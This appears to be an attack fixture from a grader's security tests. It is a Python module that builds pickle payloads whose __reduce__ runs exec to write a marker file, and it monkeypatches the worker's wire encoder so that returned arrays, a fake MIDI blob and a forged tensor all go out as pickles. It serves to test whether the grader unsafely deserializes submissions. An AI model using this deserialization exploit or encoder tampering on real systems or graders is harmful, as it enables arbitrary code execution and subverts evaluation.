"""Attack: return values that would run code if the grader unpickled them: an object
array whose element unpickles to a call that writes a marker file (sent as .npy
with pickle, by replacing the worker's encoder), as a MIDI blob, as a forged tensor."""
import io
import os
import pickle

import numpy as np

MARK = "@@MARK@@"
MARKDIR = "@@MARKDIR@@"


class Payload:
    def __reduce__(self):
        return (exec, (f"open({os.path.join(MARKDIR, 'unpickled')!r}, 'w').write({MARK!r})",))


def _pickled_npy():
    array = np.empty(3, dtype=object)
    array[:] = [Payload(), Payload(), Payload()]
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _install():
    try:
        import agworker.wire as wire
    except ImportError:
        return
    wire._npy_bytes = lambda array: _pickled_npy()      # every array goes out pickled
    original = wire.encode

    def encode(obj, blobs, ext_encoders=(), *rest):
        if obj is None:   # tokens_to_midi: a "MIDI file" that is a pickle
            blobs.append(pickle.dumps(Payload()))
            return {"t": "ext", "kind": "midi", "meta": {}, "blobs": [len(blobs) - 1]}
        if isinstance(obj, list):
            blobs.append(_pickled_npy())
            return {"t": "tensor", "blob": len(blobs) - 1, "dtype": "torch.int64", "requires_grad": False}
        return original(obj, blobs, ext_encoders)
    wire.encode = encode


_install()


def midi_to_tokens(midi):
    return [-7]


def tokens_to_midi(tokens, bpm=120):
    return None
